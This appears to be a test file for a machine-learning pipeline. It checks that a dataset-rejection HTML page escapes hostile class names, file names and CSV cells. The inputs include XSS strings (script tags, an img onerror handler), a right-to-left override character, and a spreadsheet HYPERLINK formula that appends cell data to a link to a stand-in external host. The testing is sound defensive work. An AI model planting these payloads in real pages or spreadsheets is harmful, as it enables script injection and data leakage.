import { afterEach, beforeEach, expect, test } from "vitest";

import { check } from "../../activities/check.ts";
import { checkParametersSchema } from "../../ml/check/schema.ts";
import { DatasetRejected } from "../../ml/errors.ts";
import { ingestParametersSchema } from "../../ml/ingest/schema.ts";
import { ingestSource } from "../support/ingest-files.ts";
import type { TestStage } from "../support/stage-context.ts";
import { storeSource, testStage } from "../support/stage-context.ts";
import { randomPicture } from "../support/random-picture.ts";

// Archives that lead out, bombs, links and giant pictures: ingest-images.test.ts. Arrays that lie: ingest-arrays.test.ts. Links in folders:
// tests/storage/resolve-source.test.ts. Here: names and cells that would be code where they are shown.

let stage: TestStage;
beforeEach(async () => {
  stage = await testStage();
});
afterEach(() => stage.close());

const hostile = {
  className: '<script>alert("class")',
  fileName: 'a\n<img src=x onerror=alert(1)>"\u202e.png',
  formula: '=HYPERLINK("https://example.org/?"&A1)',
  column: "</td><script>alert('column')</script>",
};

/** Quoted for CSV. */
const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;

/** Fails a gate, so that the page names files, classes, columns and cells. */
async function pageOf(files: Record<string, Uint8Array>, reading: object, parameters: object): Promise<string> {
  const source = await storeSource(stage.artifacts, files);
  const ingest = ingestParametersSchema.parse({ maxUnreadableShare: 1, height: 8, width: 8 });
  const dataset = await ingestSource(stage, source, { ingest, dataset: reading });
  const rejection = await check(
    { parameters: { ...checkParametersSchema.parse(parameters), ...reading }, inputs: { dataset }, seed: 0 },
    stage,
  ).catch((error: unknown) => error);
  if (!(rejection instanceof DatasetRejected)) throw rejection;
  return Buffer.from(await stage.artifacts.get(rejection.outputs["page"]!)).toString("utf8");
}

function expectHarmless(page: string): void {
  expect(page).not.toMatch(/<script|<img src=x|\u202e/);
  expect(page).toContain("default-src &#39;none&#39;");
}

test("a class named <script>, file names with newlines and markup: shown as text", async () => {
  const copies = await randomPicture(1);

  const page = await pageOf(
    {
      [`${hostile.className}/${hostile.fileName}`]: copies,
      "cats/1.png": copies,
      "cats/2\n.png": Buffer.from("no picture"),
    },
    {},
    {},
  );

  expectHarmless(page);
  expect(page).toContain("&lt;script&gt;alert(&quot;class&quot;)");
});

test("a CSV with formulas and markup in heads and cells: shown as text, nothing evaluated", async () => {
  const table = [
    ["file", "kind", hostile.column].map(cell).join(","),
    ["1.png", hostile.formula, hostile.formula].map(cell).join(","),
    ["2.png", "@SUM(1+1)", "unknown"].map(cell).join(","),
  ].join("\n");

  const page = await pageOf(
    { "table.csv": Buffer.from(table), "1.png": await randomPicture(1), "2.png": await randomPicture(2) },
    { table: "table.csv", key: "file", label: "kind" },
    { columns: { [hostile.column]: { values: ["a"] } } },
  );

  expectHarmless(page);
  expect(page).toContain("=HYPERLINK(");
  expect(page).toContain("@SUM(1+1)");
});
